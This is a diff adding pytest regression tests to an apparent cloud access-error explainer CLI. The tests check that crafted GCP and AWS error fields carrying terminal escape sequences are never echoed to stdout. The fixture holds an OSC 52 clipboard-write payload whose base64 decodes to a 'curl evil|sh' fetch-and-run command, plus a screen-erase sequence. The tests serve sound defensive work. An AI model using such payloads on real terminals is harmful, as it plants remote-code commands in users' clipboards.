@@ -146,3 +146,47 @@ def test_export_writes_a_page_for_every_entry_and_an_index(tmp_path: Path, fmt: 
     assert pages == expected
     index = (tmp_path / "site" / f"index{suffix}").read_text(encoding="utf-8")
     assert f"aws.authz.explicit_deny.scp{suffix}" in index
+
+
+# OSC 52 writes the terminal's clipboard; CSI 2J erases the screen. The security review's two
+# reproductions: a GCP ErrorInfo `reason` and an AWS `__type`, both of errors that are not access failures.
+OSC52 = "\\u001b]52;c;Y3VybCBldmlsfHNoCg==\\u0007\\u001b[2J\\u009b1A"
+HOSTILE_NOTES = [
+    pytest.param(
+        '{"error":{"code":429,"message":"q","status":"RESOURCE_EXHAUSTED","details":[{"@type":'
+        '"type.googleapis.com/google.rpc.ErrorInfo","reason":"X' + OSC52 + '","domain":"googleapis.com"}]}}',
+        id="gcp-errorinfo-reason",
+    ),
+    pytest.param(
+        '{"__type":"com.amazonaws.dynamodb.v20120810#ResourceNotFoundException' + OSC52 + '",'
+        '"message":"Requested resource not found"}',
+        id="aws-type",
+    ),
+]
+
+
+def _strings(value: object) -> list[str]:
+    if isinstance(value, str):
+        return [value]
+    if isinstance(value, dict):
+        return [text for item in value.values() for text in _strings(item)]
+    if isinstance(value, list):
+        return [text for item in value for text in _strings(item)]
+    return []
+
+
+@pytest.mark.parametrize("paste", HOSTILE_NOTES)
+@pytest.mark.parametrize("fmt", [(), ("--json",), ("--markdown",)], ids=["text", "json", "markdown"])
+def test_explain_prints_no_terminal_escape_from_a_paste(paste: str, fmt: tuple[str, ...], tmp_path: Path) -> None:
+    source = tmp_path / "error.json"
+    source.write_text(paste, encoding="utf-8")
+    result = subprocess.run(
+        [*WHYDENIED, "explain", str(source), *fmt], capture_output=True, cwd=ROOT, timeout=60, check=False
+    )
+    assert result.returncode == 1, result.stderr  # not an access failure, and still no escape printed
+    assert b"not an access failure" in result.stdout
+    for control in (b"\x1b", b"\x07", "\u009b".encode()):
+        assert control not in result.stdout
+    if fmt == ("--json",):  # `jq -r .note` would print escaped ones raw: none in any value either
+        strings = _strings(json.loads(result.stdout))
+        assert not [text for text in strings if any(ord(c) < 0x20 or 0x7F <= ord(c) < 0xA0 for c in text)]
